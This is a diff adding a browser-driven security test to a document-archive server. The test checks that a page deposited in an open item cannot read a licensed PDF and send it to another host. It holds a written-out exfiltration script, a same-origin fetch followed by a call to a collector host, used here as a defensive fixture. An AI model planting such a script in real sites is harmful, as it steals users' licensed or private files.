@@ -158,3 +158,60 @@ def test_the_pages_in_portuguese_fit_a_phone(served, phone_browser, shots):
         assert (got_width, got_height) == (width, height), (name, got_width, got_height)
         assert rows > 20, f"{name}: the screenshot looks blank ({rows} distinct rows)"
         assert name != "items" or phone_browser.title.startswith("Itens"), phone_browser.title
+
+
+# A page someone deposits in an open item: it reads a licensed item's file the user may have
+# (same origin, so the browser lets it) and sends it to another host (issue 30, finding 4).
+LICENSED = "sid.inpe.br/mtc-m19/2014/02.11.10.05"
+OPEN_ITEM = "iconet.com.br/banon/2009/09.09.22.01"
+EXFIL = """<!doctype html><title>exfil</title><script>
+fetch('/col/{licensed}/doc/article.pdf').then(r => r.text())
+  .then(t => fetch('http://127.0.0.1:{collector}/got?' + t.length, {{mode: 'no-cors'}}))
+  .catch(e => fetch('http://127.0.0.1:{collector}/error', {{mode: 'no-cors'}}));
+</script>"""
+READ_LICENSED = """
+const done = arguments[arguments.length - 1];
+fetch('/col/%s/doc/article.pdf').then(r => r.text())
+  .then(t => done([self.origin, 'read', t.length]))
+  .catch(e => done([self.origin, 'refused', String(e)]));
+"""
+
+
+def test_a_deposited_page_cannot_read_a_licensed_file_and_send_it_away(
+    collection, tmp_path, phone_browser
+):
+    from resolver_support import ThreadedServer
+    from serve_process import free_port
+
+    heard: list[str] = []
+
+    def collector(environ, start_response):
+        heard.append(environ["PATH_INFO"])
+        start_response("204 No Content", [])
+        return []
+
+    port = free_port()
+    listener = ThreadedServer(collector, port)
+    sidecar = collection / LICENSED / "item.yaml"  # the browser is inside its networks
+    sidecar.write_text(sidecar.read_text().replace("    - 150.163.0.0/16", "    - 127.0.0.0/8"))
+    (collection / OPEN_ITEM / "doc" / "exfil.html").write_text(
+        EXFIL.format(licensed=LICENSED, collector=port)
+    )
+    serve = serve_collection(tmp_path, collection, tmp_path / "state")
+    try:
+        serve.wait_answering(timeout=60)
+        base = f"http://{serve.address}"
+        phone_browser.get(f"{base}/col/{LICENSED}/doc/article.pdf")  # the user may have it
+        phone_browser.get(f"{base}/col/{OPEN_ITEM}/doc/exfil.html")
+        phone_browser.set_script_timeout(20)
+        # What a script of the page would get, had it run: the page has an origin of its
+        # own, so the Archive's files are another origin's, not readable without CORS.
+        origin, outcome, _ = phone_browser.execute_async_script(READ_LICENSED % LICENSED)
+        assert (origin, outcome) == ("null", "refused")
+        # And the page's own script sent nothing (it ran not at all).
+        phone_browser.get(f"http://127.0.0.1:{port}/after")
+        assert "/after" in heard and not {"/got", "/error"} & set(heard), heard
+        assert serve.stop() == 0
+    finally:
+        serve.kill()
+        listener.close()
